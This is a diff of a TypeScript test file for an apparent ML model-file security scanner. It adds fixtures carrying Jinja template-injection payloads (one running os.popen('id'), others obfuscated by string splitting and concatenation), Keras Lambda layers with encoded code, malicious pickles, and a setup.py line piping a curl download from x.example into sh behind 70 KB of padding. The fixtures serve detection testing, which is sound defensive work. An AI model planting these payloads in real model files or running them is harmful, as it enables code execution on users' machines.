@@ -84,6 +84,7 @@ function bigSafetensors(tensors: number): Uint8Array {
 }
 
 const tplInjection = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
+const tplSplit = "{{ '}}' ~ ''.__class__.__mro__[1].__subclasses__() }}";
 const lambdaConfig = { class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAA' } } } }] } };
 
 function paxTar(): Uint8Array {
@@ -151,6 +152,8 @@ const FIXTURES: [string, string, Uint8Array, { tail?: boolean; analyzers?: boole
   ['joblib ZF', 'model.pkl', cat(`ZF${`0x${evil().length.toString(16)}`.padEnd(19, ' ')} `, new Uint8Array(deflateSync(evil())))],
   ['pickle', 'model.pkl', evil()],
   ['tokenizer config', 'tokenizer_config.json', enc(JSON.stringify({ chat_template: tplInjection }))],
+  ['tokenizer config, dict form, Python-only JSON (NaN)', 'tokenizer_config.json', enc(`{"n": NaN, "chat_template": {"default": "{{ messages }}", "rag": ${JSON.stringify(tplSplit)}}}`)],
+  ['gguf, named template split by }} in a string', 'm.gguf', gguf([['tokenizer.chat_template', 'str', '{{ messages }}'], ['tokenizer.chat_template.tool_use', 'str', tplSplit]])],
   ['h5 lambda', 'model.h5', cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(3000), 'model_config\0', enc(JSON.stringify(lambdaConfig)), new Uint8Array(500))],
   ['keras zip', 'model.keras', buildZip([{ name: 'metadata.json', data: enc('{}'), method: 8 }, { name: 'config.json', data: enc(JSON.stringify(lambdaConfig)), method: 8 }])],
   ['zip no tail', 'pytorch_model.bin', buildZip([{ name: 'archive/data.pkl', data: evil() }]), { tail: false }],
@@ -200,6 +203,7 @@ const FIXTURES: [string, string, Uint8Array, { tail?: boolean; analyzers?: boole
     ['tokenizer.chat_template', 'str', tplInjection]
   ], 3)],
   ['h5: Lambda config after 100 KB', 'model.h5', cat([0x89], 'HDF\r\n\x1a\n', noise(100_000, 14).map((b) => (b === 0x7b ? 0 : b)), [0], enc(JSON.stringify(lambdaConfig)), new Uint8Array(300))],
+  ['json > 64 KiB, escaped key, template built from pieces', 'tokenizer_config.json', enc(`{"added_tokens": ${JSON.stringify(Array.from({ length: 4000 }, (_v, i) => ({ id: i, content: `<t${i}>` })))}, "chat\\u005ftemplate": ${JSON.stringify("{% set a = '__glo' %}{{ lipsum|attr(a ~ 'bals__') }}")}}`)],
   ['json > 64 KiB with a template injection', 'tokenizer_config.json', enc(JSON.stringify({ added_tokens: Array.from({ length: 4000 }, (_v, i) => ({ id: i, content: `<t${i}>` })), chat_template: tplInjection }))],
   ['python > 64 KiB, analyzers on', 'setup.py', cat(enc(`# ${'x'.repeat(70_000)}\n`), enc('import os\nos.system("curl https://x.example/i.sh | sh")\n')), { analyzers: true }],
   ['ELF', 'tokenizer.model', cat([0x7f], 'ELF', [2, 1, 1, 0], new Uint8Array(8), u16(2), u16(0x3e), noise(100_000, 15))],
